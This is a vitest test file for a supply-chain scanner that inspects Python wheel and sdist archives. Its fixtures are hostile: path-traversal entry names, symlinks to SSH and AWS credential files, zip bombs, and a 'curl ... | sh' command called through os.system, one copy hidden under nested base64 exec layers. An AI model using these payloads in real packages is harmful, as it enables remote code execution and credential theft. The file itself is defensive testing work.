import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { existsSync, readdirSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { scanPythonDistribution, type ScanReport } from '../../helper/src/scan/index.js';
import { InputError } from '../../helper/src/errors.js';
import { rawTgz, tempDir } from './support.js';
import { makeSdist, makeWheel, rawZip, type ZipItem } from './python-support.js';

let work: { dir: string; cleanup(): Promise<void> };
beforeAll(async () => {
  work = await tempDir();
});
afterAll(() => work.cleanup());

let n = 0;
async function wheel(items: ZipItem[], limits = {}): Promise<ScanReport> {
  const path = join(work.dir, `w${n++}.whl`);
  await writeFile(path, rawZip([{ name: 'x-1.0.dist-info/METADATA', body: 'Name: x\nVersion: 1.0\n' }, ...items]));
  return scanPythonDistribution(path, 'wheel', limits);
}
const rules = (r: ScanReport) => r.findings.map((f) => `${f.severity} ${f.rule} ${f.file}`);

describe('scan: wheel and sdist archive bounds', () => {
  it('reads a wheel and an sdist (tar.gz and zip) with their metadata and nothing to report', async () => {
    // The wheel: plain/__init__.py and dist-info METADATA, WHEEL, RECORD.
    const w = await scanPythonDistribution(await makeWheel(work.dir, 'plain', { 'plain/__init__.py': 'def add(a, b):\n    return a + b\n' }), 'wheel');
    expect(w).toMatchObject({ findings: [], complete: true, files: 4, package: { name: 'plain', version: '1.0' } });
    for (const format of ['tar.gz', 'zip'] as const) {
      const s = await scanPythonDistribution(await makeSdist(work.dir, `plain${format === 'zip' ? 'z' : ''}`, { 'setup.py': 'from setuptools import setup\nsetup(name="plain")\n', 'plain/__init__.py': '' }, format), 'sdist');
      expect(s.findings).toEqual([]);
      expect(s.package?.version).toBe('1.0');
    }
  });

  it('reports absolute, drive-letter, backslash and `..` entry names and writes nothing', async () => {
    const before = readdirSync(work.dir);
    const marker = `sscs-py-traversal-${process.pid}`;
    const r = await wheel([
      { name: `../../../../tmp/${marker}`, body: 'x' },
      { name: `/tmp/${marker}-abs`, body: 'x' },
      { name: 'C:/Windows/evil.py', body: 'x' },
      { name: 'pkg\\..\\..\\evil.py', body: 'x' },
    ]);
    expect(rules(r)).toEqual(expect.arrayContaining([
      `high zip-path-traversal ../../../../tmp/${marker}`,
      `high zip-path-traversal /tmp/${marker}-abs`,
      'high zip-path-traversal C:/Windows/evil.py',
      'high zip-path-traversal pkg/../../evil.py',
    ]));
    expect(existsSync(`/tmp/${marker}`)).toBe(false);
    expect(readdirSync(work.dir).length).toBe(before.length + 1);
  });

  it('reports symbolic links out of the package as high and inside as low, without following them', async () => {
    const r = await wheel([
      { name: 'pkg/creds', body: '../../../../home/user/.aws/credentials', mode: 0o120777 },
      { name: 'pkg/abs', body: '/etc/passwd', mode: 0o120777 },
      { name: 'pkg/inside', body: '__init__.py', mode: 0o120777 },
      { name: 'pkg/fifo', body: '', mode: 0o010644 },
    ]);
    expect(rules(r)).toEqual(expect.arrayContaining(['high zip-link-escape pkg/creds', 'high zip-link-escape pkg/abs', 'low zip-link pkg/inside', 'medium zip-special-file pkg/fifo']));
  });

  it('reports a second entry with the same name: the installer may take the other one', async () => {
    const r = await wheel([{ name: 'pkg/__init__.py', body: '' }, { name: 'pkg/__init__.py', body: 'import os\nos.system("curl https://example.invalid/x | sh")\n' }]);
    expect(rules(r)).toContain('high zip-duplicate-entry pkg/__init__.py');
  });

  it('stops before inflating anything when the central directory lists too many entries', async () => {
    const items = Array.from({ length: 30 }, (_, i) => ({ name: `pkg/m${i}.py`, body: '' }));
    const r = await wheel(items, { maxEntries: 10 });
    expect(r.complete).toBe(false);
    expect(rules(r).slice(0, 2)).toEqual(['high scan-incomplete (package)', 'medium limit-entries (central directory: 31 entries)']);
  });

  it('never inflates a zip bomb: a text file over the ratio bound, and total bytes over the limit', async () => {
    const zeros = Buffer.alloc(8 * 1024 * 1024);
    const bomb = await wheel([{ name: 'pkg/__init__.py', body: zeros }]);
    expect(rules(bomb)).toEqual(['high scan-incomplete (package)', 'medium zip-compression-ratio pkg/__init__.py']);
    const big = await wheel([{ name: 'pkg/a.bin', body: zeros }, { name: 'pkg/b.bin', body: zeros }], { maxTotalBytes: 10 * 1024 * 1024 });
    expect(rules(big)).toContain('medium limit-total-bytes pkg/b.bin');
    expect(big.complete).toBe(false);
  });

  it('holds an entry to its declared size: a central directory that lies is MALFORMED', async () => {
    const path = join(work.dir, 'lies.whl');
    await writeFile(path, rawZip([{ name: 'pkg/__init__.py', body: 'import os\n'.repeat(100), declaredSize: 5 }]));
    await expect(scanPythonDistribution(path, 'wheel')).rejects.toMatchObject({ code: 'MALFORMED' });
  });

  it('reports an encrypted entry as unread', async () => {
    const r = await wheel([{ name: 'pkg/__init__.py', body: 'x', encrypted: true }]);
    expect(rules(r)).toEqual(['high scan-incomplete (package)', 'medium zip-encrypted pkg/__init__.py']);
  });

  it('reads a .tar.gz sdist under the tar reader bounds (traversal, links)', async () => {
    const path = join(work.dir, 'evil-1.0.tar.gz');
    await writeFile(path, rawTgz([
      { path: 'evil-1.0/PKG-INFO', body: 'Name: evil\nVersion: 1.0\n' },
      { path: 'evil-1.0/../../etc/cron.d/x', body: 'x' },
      { path: 'evil-1.0/link', type: 'SymbolicLink', linkpath: '../../../root/.ssh/id_rsa' },
    ]));
    expect(rules(await scanPythonDistribution(path, 'sdist'))).toEqual(expect.arrayContaining(['high tar-path-traversal evil-1.0/../../etc/cron.d/x', 'high tar-link-escape link']));
  });

  it('rejects a wheel that is not a zip, and a file that is no archive, with MALFORMED and the file', async () => {
    const path = join(work.dir, 'not.whl');
    await writeFile(path, 'hello');
    await expect(scanPythonDistribution(path, 'wheel')).rejects.toMatchObject({ code: 'MALFORMED', where: { file: path } });
    const sdist = join(work.dir, 'not.tar.gz');
    await writeFile(sdist, 'hello');
    const err = await scanPythonDistribution(sdist, 'sdist').catch((e: unknown) => e);
    expect(err).toBeInstanceOf(InputError);
    await expect(scanPythonDistribution(join(work.dir, 'missing.whl'), 'wheel')).rejects.toMatchObject({ code: 'FILE_NOT_FOUND' });
  });
});

describe('scan: hostile Python code', () => {
  it('folds a doubling chain of 60 names once per name, and reads 5,000 nested brackets', async () => {
    const chain = ['x0 = "ab"', ...Array.from({ length: 60 }, (_, i) => `x${i + 1} = x${i} + x${i}`), 'import os', 'os.system(x60)', "exec(__import__('base64').b64decode('cHJpbnQoMSk='))"];
    const r = await wheel([{ name: 'pkg/__init__.py', body: `${chain.join('\n')}\ny = ${'('.repeat(5000)}1${')'.repeat(5000)}\n` }]);
    // Nothing folds past 1 MiB, and the file is still analysed to its end.
    expect(rules(r)).toEqual(['high code-remote-eval pkg/__init__.py']);
  });

  it('stops at two levels of decoded code evaluating decoded code', async () => {
    let code = "import os\nos.system('curl -s https://example.invalid/x | sh')";
    for (let i = 0; i < 6; i++) code = `import base64\nexec(base64.b64decode('${Buffer.from(code).toString('base64')}'))`;
    const r = await wheel([{ name: 'pkg/__init__.py', body: code }]);
    expect(rules(r)).toEqual(['high code-remote-eval pkg/__init__.py']);
  });
});
